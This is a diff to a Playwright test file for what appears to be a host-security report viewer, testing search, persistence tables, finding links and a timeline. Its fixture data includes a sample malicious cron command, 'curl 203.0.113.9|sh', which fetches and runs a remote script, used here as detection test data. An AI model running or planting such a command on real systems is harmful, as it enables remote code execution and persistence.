@@ -99,7 +99,8 @@ def fleet(tmp_path_factory):
         findings=[
             finding("1"),
             finding("2", rule="cron", title="A cron line that fetches and runs", severity="high", attack=["T1053.003", "T1105"],
-                    subject="/etc/cron.d/clean", first_seen="2026-11-20 02:00:00"),
+                    subject="/etc/cron.d/clean line 1", first_seen="2026-11-20 02:00:00",
+                    evidence=json.dumps([proof(table="persistence", line=1)])),
             *(finding(f"many{number}", rule="many", title="Many of a kind", severity="low", attack=[], subject=f"thing {number}")
               for number in range(60)),
             finding("3", "db01", rule="rare_key", title="A key that no other host has", severity="medium", attack=["T1098.004"],
@@ -113,7 +114,8 @@ def fleet(tmp_path_factory):
         ],
         users=[{**of_web01, "user": f"user{number:03}", "uid": number, "shell": "/bin/sh" if number % 2 else None}
                for number in range(120)],
-        persistence=[{**of_web01, "mechanism": "cron", "command": "curl 203.0.113.9|sh", "path": "/etc/cron.d/clean"}],
+        persistence=[{**of_web01, "source_row": row, "mechanism": "cron", "command": "curl 203.0.113.9|sh", "path": f"/etc/cron.d/{name}"}
+                     for row, name in enumerate(("fine", "clean"))],
         stack=[{"kind": "authorized_key", "kind_group": "debian 12", "value": "SHA256:abc", "hosts_with": 1, "hosts_of": 3,
                 "host": "db01"}],
         items=[{"host": "app01", "run": RUN, "part": "20-accounts", "state": "denied", "path": "/root/x", "reason": "EACCES"}],
@@ -151,7 +153,7 @@ def test_the_search_goes_through_everything(visit, fleet):
     page.keyboard.type("cron.d -missing")
     page.wait_for_selector("nav a.without")
     assert page.locator("nav a[href='#findings']").inner_text() == "Findings 1/62"
-    assert page.locator("nav a[href='#persistence']").inner_text() == "Persistence 1/1"
+    assert page.locator("nav a[href='#persistence']").inner_text() == "Persistence 2/2"
     assert page.locator("article.group:visible").count() == 1
     page.keyboard.press("Escape")
     assert page.locator("nav a[href='#findings']").inner_text() == "Findings 62"
@@ -234,6 +236,7 @@ def test_tables_are_paged_sorted_and_filtered(visit, fleet):
 def test_a_row_that_a_finding_is_about_leads_to_it(visit, fleet):
     page = visit.open(on_host(fleet))
     mark = page.locator("[data-table=persistence] a.severity")
+    assert "/etc/cron.d/clean" in shown_rows(page, "persistence").first.inner_text()
     assert (mark.get_attribute("href"), mark.get_attribute("title")) == ("#f-2", "high: A cron line that fetches and runs")
 
 
@@ -258,6 +261,8 @@ def test_the_timeline_is_a_picture_that_zooms(visit, fleet):
     begin = edges(page)
     assert begin[0] < "2026-11-20 01:02:03" and begin[1] == "2026-11-24 23:00:01"
     assert page.locator("svg.picture a").get_attribute("href") == "#f-1", "of two that are too near the worse one"
+    labels = page.evaluate("[...document.querySelectorAll('svg.picture text.label')].map(label => label.lastChild.textContent)")
+    assert sorted(labels) == ["files", "findings", "logins"]
     drag(page, 0.25, 0.5)
     zoomed = edges(page)
     assert begin[0] < zoomed[0] < zoomed[1] < begin[1]
